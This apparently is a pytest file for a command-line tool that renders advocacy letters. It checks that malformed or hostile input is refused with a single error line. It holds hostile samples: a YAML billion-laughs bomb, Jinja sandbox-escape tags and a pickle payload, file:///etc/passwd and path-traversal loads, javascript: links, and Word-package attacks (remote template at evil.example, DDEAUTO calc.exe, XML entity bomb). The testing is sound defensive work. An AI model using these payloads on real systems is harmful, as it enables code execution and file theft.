"""Bad input at the command line: one plain line, the right exit code, nothing half-written.

A case file that is missing, a folder, a pipe, 50 MB, binary, a YAML bomb or nested past any
reason; a file nobody may read and a folder nobody may write; an output path that is a file or
runs through one; templates that reach for Python's insides, for files or for the network; fact
text written like template code. Each gets one line on stderr and exit 1 (2 for wrong usage),
never a traceback, and leaves nothing behind in the output folder.

Tests of unreadable and unwritable files need a user whom permissions stop. Root reads and
writes everything, so when the tests run as root those commands run in a forked child that
drops to the user ``nobody`` first (see :class:`Unprivileged`).
"""

from __future__ import annotations

import contextlib
import html
import io
import os
import pickle
import random
import shutil
import signal
import sys
import tempfile
import threading
import traceback
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from docx import Document as WordDocument
from pypdf import PdfReader

from advocacy.cli.app import main
from advocacy.documents.templates import DEFAULTS
from tests.conftest import TINY, Result, Runner, tiny_case
from tests.extract import docx_text, pdf_text

NOBODY = 65534


def one_line(result: Result, code: int = 1) -> str:
    """The error line of a run that failed as a user should see it: alone on stderr."""
    assert result.code == code, (result.code, result.err)
    assert "Traceback" not in result.err, result.err
    assert result.err.endswith("\n") and result.err.count("\n") == 1, result.err
    assert result.out == ""
    return result.err.rstrip("\n")


def nothing_in(folder: Path) -> None:
    """No file under ``folder``, not even a hidden temporary one (or no folder at all)."""
    assert not folder.exists() or not list(folder.rglob("*")), sorted(folder.rglob("*"))


# Case files that are not case files.


def _missing(folder: Path) -> Path:
    return folder / "nowhere.yaml"


def _folder(folder: Path) -> Path:
    path = folder / "case.yaml"
    path.mkdir()
    return path


def _fifty_megabytes(folder: Path) -> Path:
    path = folder / "huge.yaml"
    line = b"- some words that look like a case file\n"
    path.write_bytes(line * (50 * 1024 * 1024 // len(line)) + b"x" * (50 * 1024 * 1024 % len(line)))
    return path


def _binary(folder: Path) -> Path:
    path = folder / "binary.yaml"
    path.write_bytes(random.Random(7).randbytes(4096))
    return path


def _word_file(folder: Path) -> Path:
    path = folder / "letter.yaml"
    shutil.copy(DEFAULTS / "appeal" / "appeal.docx", path)
    return path


def _nul_bytes(folder: Path) -> Path:
    path = folder / "tiny.yaml"
    path.write_bytes(TINY.read_bytes().replace(b"Ana Example is", b"Ana\x00\x00 Example is", 1))
    return path


def _yaml_bomb(folder: Path) -> Path:
    """Billion laughs: nine aliases to nine aliases..., 9^9 values in a dozen lines."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    path = folder / "tiny.yaml"
    path.write_text(TINY.read_text() + "\n".join(lines) + "\n")
    return path


def _deep_flow(folder: Path) -> Path:
    path = folder / "tiny.yaml"
    path.write_text("id: tiny\nbackground: " + "[" * 100_000 + "]" * 100_000 + "\n")
    return path


def _deep_block(folder: Path) -> Path:
    path = folder / "tiny.yaml"
    path.write_text("id: tiny\nbackground:\n" + "".join("  " * d + "  k:\n" for d in range(3000)))
    return path


def _pipe(folder: Path) -> Path:
    path = folder / "tiny.yaml"
    if not hasattr(os, "mkfifo"):
        pytest.skip("no named pipes here")
    os.mkfifo(path)
    return path


CASE_FILES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "missing": (_missing, "no such file"),
    "a folder": (_folder, "is a folder; give the path of a .yaml case file"),
    "50 MB": (_fifty_megabytes, "is 50.0 MB; a case file may be at most 10 MB"),
    "binary garbage": (_binary, "not UTF-8 text (byte 0x"),
    "a Word file renamed": (_word_file, "not UTF-8 text (byte 0x"),
    "NUL bytes": (_nul_bytes, "contains the control character U+0000"),
    "a YAML bomb": (_yaml_bomb, "holds more than 1,000,000 values"),
    "nested 100,000 deep": (_deep_flow, "not valid YAML: nested too deeply"),
    "indented 3,000 deep": (_deep_block, "not valid YAML: nested too deeply"),
    "a named pipe": (_pipe, "is not a regular file (a pipe or a device)"),
}
COVERED = {("validate", "missing"), ("validate", "a folder")}  # in test_facts
NOT_FILES = {"missing", "a folder", "a named pipe"}
"""Paths a preview refuses at once; it previews a file whatever it holds (see previewed)."""


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch) -> None:
    """A preview that gets as far as serving prints its page on stdout and ends, not serves."""

    def print_the_page(self: Any) -> None:
        self._server.server_close()
        print(self.page.html)

    monkeypatch.setattr("advocacy.authoring.preview.Preview.serve_forever", print_the_page)


def previewed(result: Result, path: Path, message: str) -> None:
    """A preview of a case file it cannot use starts all the same (the user fixes the file
    while watching): the error once on stderr, and on the page."""
    assert result.code == 0, result.err
    assert "Traceback" not in result.err and "Traceback" not in result.out, result.err
    error, started = result.err.splitlines()
    assert error.startswith(f"{path}:") and message in error, error
    assert started.startswith("previewing at http://127.0.0.1:")
    assert "could not be made" in result.out and message in html.unescape(result.out)


@pytest.fixture
def unblocked() -> Iterator[Callable[[Path], None]]:
    """Should a read of a named pipe block, a writer comes after 10 s: the test fails, not hangs."""
    timers: list[threading.Timer] = []

    def watch(path: Path) -> None:
        def open_and_close() -> None:
            with contextlib.suppress(OSError):  # nobody is reading: nothing to unblock
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))

        if path.is_fifo():
            timers.append(threading.Timer(10, open_and_close))
            timers[-1].start()

    yield watch
    for timer in timers:
        timer.cancel()


@pytest.mark.parametrize(
    ("command", "name"),
    [(c, n) for c in ("validate", "render") for n in CASE_FILES if (c, n) not in COVERED],
)
def test_a_case_file_that_is_not_one_gets_one_line_and_writes_nothing(
    tmp_path: Path, run: Runner, unblocked: Callable[[Path], None], command: str, name: str
) -> None:
    make, message = CASE_FILES[name]
    path = make(tmp_path)
    unblocked(path)
    out = tmp_path / "out"
    args = ("validate", path) if command == "validate" else ("render", "appeal", path, "-o", out)
    line = one_line(run(*args))
    # Said before parsing (the size) or before validating (the bomb): it cannot run for minutes.
    assert line.startswith(f"{path}:") and message in line, line
    nothing_in(out)


@pytest.mark.usefixtures("served")
@pytest.mark.parametrize("name", CASE_FILES)
def test_a_preview_of_a_case_file_that_is_not_one_says_why(
    tmp_path: Path, run: Runner, unblocked: Callable[[Path], None], name: str
) -> None:
    make, message = CASE_FILES[name]
    path = make(tmp_path)
    unblocked(path)
    result = run("preview", "appeal", path, "--port", "0")
    if name in NOT_FILES:
        line = one_line(result)
        assert line.startswith(f"{path}:") and message in line, line
    else:
        previewed(result, path, message)


# Files a user may not read, folders a user may not write.


@dataclass
class Unprivileged:
    """Runs the command as a user whom file permissions stop, in a folder that user may enter.

    Not root: this process, in ``tmp_path``. Root: a forked child that becomes ``nobody``, in a
    folder under the system's temporary folder (pytest's own are closed to other users). The
    child may be unable to import anything new (the interpreter may live where nobody may
    read), so the fixture renders and validates once first, to import all the commands need.
    """

    folder: Path
    run: Runner
    root: bool

    def __call__(self, *args: str | Path) -> Result:
        if not self.root:
            return self.run(*args)
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
            pid = os.fork()
            if pid == 0:  # pragma: no cover - the child, which must never return into pytest
                code = 71
                try:
                    code = _child([str(arg) for arg in args], out, err)
                finally:
                    os._exit(code)
            code = _wait(pid, seconds=60)
            out.seek(0)
            err.seek(0)
            return Result(code, out.read().decode(), err.read().decode())


def _child(args: list[str], out: Any, err: Any) -> int:  # pragma: no cover - runs forked
    code = 70
    try:
        sys.stdout = io.TextIOWrapper(out, write_through=True)
        sys.stderr = io.TextIOWrapper(err, write_through=True)
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        try:
            main(args)
            code = 0
        except SystemExit as exit_:
            code = exit_.code if isinstance(exit_.code, int) else 1
    except BaseException:
        traceback.print_exc()
        code = 71
    finally:
        sys.stdout.flush()
        sys.stderr.flush()
    return code


def _wait(pid: int, seconds: float) -> int:
    """The child's exit code, once it ends; killed if it runs ``seconds`` (the test fails)."""
    killed = threading.Event()

    def kill() -> None:
        killed.set()
        os.kill(pid, signal.SIGKILL)

    guard = threading.Timer(seconds, kill)
    guard.start()
    try:
        _, status = os.waitpid(pid, 0)
    finally:
        guard.cancel()
    if killed.is_set():
        raise AssertionError(f"the command did not end in {seconds} s")
    return os.waitstatus_to_exitcode(status)


@pytest.fixture
def unprivileged(tmp_path: Path, run: Runner) -> Iterator[Unprivileged]:
    if os.geteuid() != 0:
        yield Unprivileged(tmp_path, run, root=False)
        return
    if not hasattr(os, "fork"):
        pytest.skip("root, and no fork() to drop root's powers in")
    # Everything the commands import, imported before the fork.
    import advocacy.authoring.preview

    assert run("render", "appeal", TINY, "-o", tmp_path / "warm").code == 0
    assert run("validate", tmp_path / "nowhere.yaml").code == 1
    folder = Path(tempfile.mkdtemp(prefix="advocacy-hostile-"))
    folder.chmod(0o755)
    # The checkout may live where nobody may enter (a clone in a 0700 temporary folder): the
    # child renders from a world-readable copy of the shipped templates.
    import advocacy.documents.templates

    shipped = Path(tempfile.mkdtemp(prefix="advocacy-templates-"))
    shipped.chmod(0o755)
    shutil.copytree(advocacy.documents.templates.DEFAULTS, shipped / "templates")
    for path in [shipped / "templates", *(shipped / "templates").rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    defaults = advocacy.documents.templates.DEFAULTS
    advocacy.documents.templates.DEFAULTS = shipped / "templates"
    # Likewise WeasyPrint's sRGB profile, which it reads from its package for every PDF/A.
    import weasyprint.pdf

    profile = shipped / "weasyprint"
    profile.mkdir(mode=0o755)
    shutil.copy(weasyprint.pdf.files("weasyprint.pdf") / "sRGB2014.icc", profile)
    (profile / "sRGB2014.icc").chmod(0o644)
    package_files = weasyprint.pdf.files
    weasyprint.pdf.files = lambda package: (
        profile if package == "weasyprint.pdf" else package_files(package)
    )
    try:
        yield Unprivileged(folder, run, root=True)
    finally:
        advocacy.documents.templates.DEFAULTS = defaults
        weasyprint.pdf.files = package_files
        shutil.rmtree(folder)
        shutil.rmtree(shipped)


def _tiny_in(folder: Path) -> Path:
    """A copy of the tiny case and its letterheads in ``folder``."""
    shutil.copytree(TINY.parent / "letterheads", folder / "letterheads")
    return Path(shutil.copy(TINY, folder / "tiny.yaml"))


def _reading(command: str, path: Path, out: Path) -> tuple[str | Path, ...]:
    """The arguments of ``command`` run on the case file ``path``."""
    return {
        "validate": ("validate", path),
        "render": ("render", "appeal", path, "-o", out),
        "preview": ("preview", "appeal", path, "--port", "0"),
    }[command]


@pytest.mark.usefixtures("served")
@pytest.mark.parametrize("command", ["validate", "render", "preview"])
def test_a_case_file_nobody_may_read_gets_one_line(
    unprivileged: Unprivileged, command: str
) -> None:
    path = _tiny_in(unprivileged.folder)
    path.chmod(0)
    out = unprivileged.folder / "out"
    result = unprivileged(*_reading(command, path, out))
    if command == "preview":
        previewed(result, path, "cannot be read: permission denied")
    else:
        assert one_line(result) == f"{path}:1:1: cannot be read: permission denied"
    nothing_in(out)


@pytest.mark.usefixtures("served")
@pytest.mark.parametrize(
    "command",
    [
        "validate",
        "render",
        "preview",
    ],
)
def test_a_case_file_in_a_folder_nobody_may_enter_gets_one_line(
    unprivileged: Unprivileged, command: str
) -> None:
    locked = unprivileged.folder / "locked"
    locked.mkdir()
    path = _tiny_in(locked)
    locked.chmod(0o700 if unprivileged.root else 0)
    out = unprivileged.folder / "out"
    try:
        line = one_line(unprivileged(*_reading(command, path, out)))
    finally:
        locked.chmod(0o755)
    assert line == f"{path}:1:1: cannot be read: permission denied"
    nothing_in(out)


@pytest.mark.parametrize("where", ["the folder", "a folder inside it"])
def test_an_output_folder_nobody_may_write_gets_one_line_and_nothing_in_it(
    unprivileged: Unprivileged, where: str
) -> None:
    case = _tiny_in(unprivileged.folder)  # the checkout may be closed to nobody
    closed = unprivileged.folder / "closed"
    closed.mkdir(mode=0o555)
    out = closed if where == "the folder" else closed / "new"
    try:
        line = one_line(unprivileged("render", "appeal", case, "-o", out))
    finally:
        closed.chmod(0o755)
    assert line == f"error: {out}: cannot write here: permission denied"
    nothing_in(closed)


def test_templates_cannot_be_exported_into_a_folder_nobody_may_write(
    unprivileged: Unprivileged,
) -> None:
    closed = unprivileged.folder / "closed"
    closed.mkdir(mode=0o555)
    try:
        line = one_line(unprivileged("templates", "export", closed / "mine", "appeal"))
    finally:
        closed.chmod(0o755)
    assert line == f"error: {closed / 'mine'}: cannot write there: Permission denied"
    nothing_in(closed)


# Output paths shaped wrong.


def test_an_output_path_that_is_a_file_gets_one_line(tmp_path: Path, run: Runner) -> None:
    taken = tmp_path / "report.pdf"
    taken.write_bytes(b"keep me")
    assert one_line(run("render", "appeal", TINY, "-o", taken)) == (
        f"error: {taken}: is a file, not a folder"
    )
    assert taken.read_bytes() == b"keep me"


def test_an_output_path_through_a_file_gets_one_line_and_the_file_is_kept(
    tmp_path: Path, run: Runner
) -> None:
    taken = tmp_path / "notes.txt"
    taken.write_bytes(b"keep me")
    line = one_line(run("render", "appeal", TINY, "-o", taken / "sub"))
    assert line == f"error: {taken / 'sub'}: a part of this path is a file, not a folder"
    assert taken.read_bytes() == b"keep me"
    assert sorted(tmp_path.iterdir()) == [taken]


def test_a_folder_where_a_document_goes_stops_every_format_before_any_is_written(
    tmp_path: Path, run: Runner
) -> None:
    out = tmp_path / "out"
    (out / "appeal-first.docx").mkdir(parents=True)
    line = one_line(run("render", "appeal", TINY, "-f", "pdf", "-f", "docx", "-o", out))
    assert line.startswith(f"error: {out / 'appeal-first.docx'}: is a folder")
    assert [p.name for p in out.iterdir()] == ["appeal-first.docx"], "no PDF, no temporary file"


def test_templates_cannot_be_exported_over_a_file(tmp_path: Path, run: Runner) -> None:
    taken = tmp_path / "notes.txt"
    taken.write_bytes(b"keep me")
    line = one_line(run("templates", "export", taken))
    assert line == f"error: {taken}: not a folder; give a folder to export the templates into"
    assert taken.read_bytes() == b"keep me"


# Wrong usage not covered elsewhere: the preview's kind, and a templates folder that is not one.


def test_an_unknown_kind_to_preview_is_wrong_usage(run: Runner) -> None:
    line = one_line(run("preview", "leter", TINY, "--port", "0"), code=2)
    assert line == "error: no document kind 'leter'; choose one of: appeal, chronology, summary"


@pytest.mark.usefixtures("served")
@pytest.mark.parametrize(
    "args",
    [
        ("render", "appeal", TINY),
        ("preview", "appeal", TINY, "--port", "0"),
        ("templates", "list"),
        ("templates", "check"),
    ],
    ids=["render", "preview", "templates list", "templates check"],
)
def test_templates_that_are_a_file_or_missing_get_one_line(
    tmp_path: Path, run: Runner, args: tuple[str | Path, ...]
) -> None:
    taken = tmp_path / "templates.zip"
    taken.write_bytes(b"PK\x05\x06" + bytes(18))
    for folder, says in ((taken, "not a folder"), (tmp_path / "nowhere", "no such templates")):
        option = (folder,) if args[:2] == ("templates", "check") else ("--templates", folder)
        out = ("-o", tmp_path / "out") if args[0] == "render" else ()
        line = one_line(run(*args, *option, *out))
        assert line.startswith(f"error: {folder}: {says}"), line
    nothing_in(tmp_path / "out")


# Templates that reach outside the facts.


def _my_templates(folder: Path, kind: str = "appeal") -> Path:
    """A templates folder holding a copy of the shipped ``kind``, to spoil."""
    shutil.copytree(DEFAULTS / kind, folder / kind)
    return folder


def _insert_after_body(html: Path, text: str) -> int:
    """Put ``text`` on a line of its own after <body>; return that line's number."""
    lines = html.read_text().splitlines()
    at = next(i for i, line in enumerate(lines) if "<body" in line) + 1
    lines.insert(at, text)
    html.write_text("\n".join(lines) + "\n")
    return at + 1


class Touch:
    """Unpickled, it would create a file: proof that a template ran code."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.touch, (self.path,))


@pytest.mark.parametrize(
    ("tag", "says"),
    [
        ("{{ lipsum.__globals__ }}", "access to attribute '__globals__' of 'function' object"),
        ("{{ cycler.__init__.__globals__ }}", "access to attribute '__init__' of 'type' object"),
        ("{{ case.__class__ }}", "access to attribute '__class__' of 'Case' object"),
        ("{{ case.parse_file(PICKLE, proto='pickle', allow_pickle=True) }}", "'parse_file'"),
        ("{{ defender.model_validate_json('{}') }}", "'model_validate_json' of 'Person'"),
    ],
)
def test_a_template_that_reaches_for_python_names_its_line_and_runs_nothing(
    tmp_path: Path, run: Runner, tag: str, says: str
) -> None:
    mine = _my_templates(tmp_path / "mine")
    ran = tmp_path / "code-ran"
    payload = mine / "appeal" / "data.pkl"
    payload.write_bytes(pickle.dumps(Touch(ran)))
    line_number = _insert_after_body(
        mine / "appeal" / "appeal.html", tag.replace("PICKLE", repr(str(payload)))
    )
    out = tmp_path / "out"
    line = one_line(run("render", "appeal", TINY, "--templates", mine, "-f", "pdf", "-o", out))
    assert line.startswith(f"error: appeal.html:{line_number}: "), line
    assert says in line and line.endswith("is unsafe."), line
    assert not ran.exists(), "the template unpickled a file: it can run any code"
    nothing_in(out)


def _spoil_word(template: Path, paragraph_text: str, tag: str) -> None:
    """Replace the paragraph of ``template`` that reads ``paragraph_text`` with ``tag``."""
    doc = WordDocument(str(template))
    [paragraph] = [p for p in doc.paragraphs if p.text == paragraph_text]
    paragraph.runs[0].text = tag
    for extra in paragraph.runs[1:]:
        extra.text = ""
    doc.save(str(template))


@pytest.mark.parametrize(
    ("kind", "paragraph", "tag", "says"),
    [
        ("appeal", "{{ title }}", "{{ case.__class__.__mro__ }}", "'__class__' of 'Case'"),
        (
            "summary",
            "{{ title }}",
            "{{ figure.tpl.save(TARGET) }}",
            "access to attribute 'tpl' of 'InlineImage' object is unsafe.",
        ),
        (
            "summary",
            "{{ title }}",
            "{{ case.parse_file(TARGET) }}",
            "access to attribute 'parse_file' of 'Case' object is unsafe.",
        ),
    ],
    ids=["dunder", "picture's template", "pydantic"],
)
def test_a_word_template_that_reaches_for_python_names_its_paragraph_and_writes_nothing(
    tmp_path: Path, run: Runner, kind: str, paragraph: str, tag: str, says: str
) -> None:
    mine = _my_templates(tmp_path / "mine", kind)
    target = tmp_path / "written-by-a-template.docx"
    _spoil_word(mine / kind / f"{kind}.docx", paragraph, tag.replace("TARGET", repr(str(target))))
    out = tmp_path / "out"
    line = one_line(run("render", kind, TINY, "--templates", mine, "-f", "docx", "-o", out))
    assert line.startswith(f"error: {kind}.docx: paragraph "), line
    assert says in line, line
    assert not target.exists()
    nothing_in(out)


SECRET = "SECRET-MARKER-7f3a"


@pytest.mark.parametrize(
    ("where", "text", "url"),
    [
        ("html", '<img src="file:///etc/passwd" alt="">', "file:///etc/passwd"),
        ("html", '<img src="../../../../../../../../etc/passwd" alt="">', "file:///etc/passwd"),
        (
            "html",
            '<link rel="stylesheet" href="https://example.com/x.css">',
            "https://example.com/x.css",
        ),
        ("html", '<link rel="attachment" href="innocent.txt">', "innocent.txt"),
        (
            "css",
            "body { background: url(../../../../../../../../etc/passwd) }",
            "file:///etc/passwd",
        ),
        ("css", '@import "/etc/passwd";', "file:///etc/passwd"),
        ("css", '@import url("https://example.com/x.css");', "https://example.com/x.css"),
        ("css", "@font-face { font-family: X; src: url(innocent.txt) }", "innocent.txt"),
    ],
)
def test_a_template_that_loads_from_outside_its_folder_fails_the_pdf(
    tmp_path: Path, run: Runner, where: str, text: str, url: str
) -> None:
    """WeasyPrint may load only the templates' own files: anything else fails the render
    (it is not quietly left out), and nothing of what it points to is read into the PDF."""
    mine = _my_templates(tmp_path / "mine")
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    (mine / "appeal" / "innocent.txt").symlink_to(secret)  # inside, but leads outside
    if where == "html":
        _insert_after_body(mine / "appeal" / "appeal.html", text)
    else:
        css = mine / "appeal" / "appeal.css"
        css.write_text(
            f"{text}\n{css.read_text()}" if "@" in text else f"{css.read_text()}\n{text}\n"
        )
    out = tmp_path / "out"
    line = one_line(run("render", "appeal", TINY, "--templates", mine, "-f", "pdf", "-o", out))
    assert line.startswith("error: appeal.html: refused to load "), line
    assert url in line and "templates may load only files of their template folders" in line
    assert SECRET not in line and "root:" not in line
    nothing_in(out)


# Fact text that looks like template code is text.

TEMPLATE_LIKE = {
    "title": "Sum: {{ 7*7 }} {%tr for x in y %}",
    "lead": "Ana wrote {{ 7*7 }} and {% raw %}raw{% endraw %} {%p if 1 %} {{r defender.name }}.",
    "concern": "{# a comment #} {{ lipsum }} {% include 'appeal.css' %} {{ case.id }}",
}


def test_fact_text_written_like_template_code_comes_out_literally(
    tmp_path: Path, run: Runner
) -> None:
    path = tiny_case(tmp_path / "case", lambda data: data["appeals"][0].update(TEMPLATE_LIKE))
    out = tmp_path / "out"
    result = run("render", "appeal", path, "-f", "pdf", "-f", "docx", "-o", out)
    assert result.code == 0, result.err
    pdf, docx = out / "appeal-first.pdf", out / "appeal-first.docx"
    squeeze = str.maketrans("", "", " \n")
    for text in (pdf_text(pdf), docx_text(docx)):
        flat = text.translate(squeeze)
        for literal in TEMPLATE_LIKE.values():
            assert literal.translate(squeeze) in flat, (literal, text)
        assert "49" not in flat, "a fact was evaluated as a template"
    metadata = PdfReader(pdf).metadata
    assert metadata is not None and metadata.title == TEMPLATE_LIKE["title"]
    assert WordDocument(str(docx)).core_properties.title == TEMPLATE_LIKE["title"]


@pytest.mark.parametrize(
    "website", ["javascript:app.alert(1)//://", "file:///etc/passwd#://", "data:text/html,x"]
)
def test_a_letterhead_link_that_is_no_web_address_is_refused_at_its_place(
    tmp_path: Path, run: Runner, website: str
) -> None:
    # It became a live link in every PDF: the template links a website that holds '://' as it is.
    shutil.copy(TINY, tmp_path / "tiny.yaml")
    letterheads = tmp_path / "letterheads"
    letterheads.mkdir()
    text = (TINY.parent / "letterheads" / "example-ngo.yaml").read_text()
    (letterheads / "example-ngo.yaml").write_text(
        text.replace("website: www.example.org", f'website: "{website}"')
    )
    result = run("render", "appeal", tmp_path / "tiny.yaml", "--out", tmp_path / "out")
    assert result.code == 1
    assert result.err == (
        f"{letterheads / 'example-ngo.yaml'}:10:14: offices[0].website: {website!r} is not a web "
        "address: write it as printed, www.example.org or https://www.example.org/path "
        "(documents link it; only http and https are allowed)\n"
    )
    assert not (tmp_path / "out").exists()


def test_a_letterhead_website_with_its_scheme_is_linked_as_written(
    tmp_path: Path, run: Runner
) -> None:
    shutil.copy(TINY, tmp_path / "tiny.yaml")
    letterheads = tmp_path / "letterheads"
    letterheads.mkdir()
    text = (TINY.parent / "letterheads" / "example-ngo.yaml").read_text()
    (letterheads / "example-ngo.yaml").write_text(
        text.replace("website: www.example.org", "website: http://example.org/en")
    )
    result = run("render", "appeal", tmp_path / "tiny.yaml", "--out", tmp_path / "out")
    assert result.code == 0, result.err
    [pdf] = (tmp_path / "out").glob("*.pdf")
    links = [
        annot.get_object()["/A"]["/URI"]
        for page in PdfReader(pdf).pages
        for annot in page.get("/Annots", [])
        if "/A" in annot.get_object()
    ]
    assert "http://example.org/en" in links
    assert all(link.startswith(("https://", "http://", "mailto:")) for link in links), links


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _rel(kind: str, target: str, external: bool = True) -> Callable[[dict[str, bytes]], None]:
    """A change to a Word package: one more relationship of the document."""

    def change(parts: dict[str, bytes]) -> None:
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", rel.encode() + b"</Relationships>")

    return change


def _in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/document.xml"
        parts[name] = parts[name].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)

    return change


def _part(name: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        parts[name] = data

    return change


BOMB = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'
# A change to the shipped appeal.docx, and the part and words the refusal names.
WORD_ATTACKS = [
    (_rel("attachedTemplate", "https://evil.example/t.dotm"), "word/_rels/document.xml.rels", "attachedTemplate"),
    (_rel("image", "https://evil.example/pixel.png"), "word/_rels/document.xml.rels", "reaches outside the document (image to 'https://evil.example/pixel.png')"),
    (_rel("hyperlink", "file:///etc/passwd"), "word/_rels/document.xml.rels", "reaches outside the document (hyperlink to 'file:///etc/passwd')"),
    (_rel("aFChunk", "chunk.html", external=False), "word/_rels/document.xml.rels", "aFChunk"),
    (_in_body('<w:p><w:r><w:instrText> INCLUDEPICTURE "https://evil.example/p.png" </w:instrText></w:r></w:p>'), "word/document.xml", "INCLUDEPICTURE field"),
    (_in_body('<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\calc.exe\'/>'), "word/document.xml", "DDEAUTO field"),
    (_in_body("<w:altChunk r:id=\"rId99\"/>"), "word/document.xml", "altChunk"),
    (_part("word/styles.xml", b"<w:styles><unclosed></w:styles>"), "word/styles.xml", "is not well-formed XML"),
    (_part("word/settings.xml", BOMB), "word/settings.xml", "declares a DOCTYPE or entities"),
]  # fmt: skip


@pytest.mark.parametrize(("attack", "part", "said"), WORD_ATTACKS)
def test_a_word_template_that_reaches_outside_or_is_broken_is_refused_by_both_commands(
    tmp_path: Path, run: Runner, attack: Callable[[dict[str, bytes]], None], part: str, said: str
) -> None:
    import zipfile

    folder = tmp_path / "templates"
    assert run("templates", "export", folder).code == 0
    word = folder / "appeal" / "appeal.docx"
    with zipfile.ZipFile(word) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    attack(parts)
    with zipfile.ZipFile(word, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    checked = run("templates", "check", folder)
    assert checked.code == 1
    [line] = [line for line in checked.out.splitlines() + checked.err.splitlines() if part in line]
    assert line.startswith(f"{word}: {part}: ") and said in line, line
    rendered = run("render", "appeal", TINY, "--templates", folder, "--out", tmp_path / "out")
    assert rendered.code == 1
    assert rendered.err.startswith(f"error: {word}: {part}: ") and said in rendered.err
    assert len(rendered.err.splitlines()) == 1 and "Traceback" not in rendered.err
    assert not (tmp_path / "out").exists()


def test_a_word_template_that_is_no_zip_is_refused_by_both_commands(
    tmp_path: Path, run: Runner
) -> None:
    folder = tmp_path / "templates"
    assert run("templates", "export", folder).code == 0
    word = folder / "appeal" / "appeal.docx"
    word.write_text("not a zip")
    said = "is not a Word document (not a zip file): save it as .docx"
    checked = run("templates", "check", folder)
    assert checked.code == 1 and f"{word}: {said}" in checked.out + checked.err
    rendered = run("render", "appeal", TINY, "--templates", folder, "--out", tmp_path / "out")
    assert (rendered.code, rendered.err) == (1, f"error: {word}: {said}\n")
    assert not (tmp_path / "out").exists()
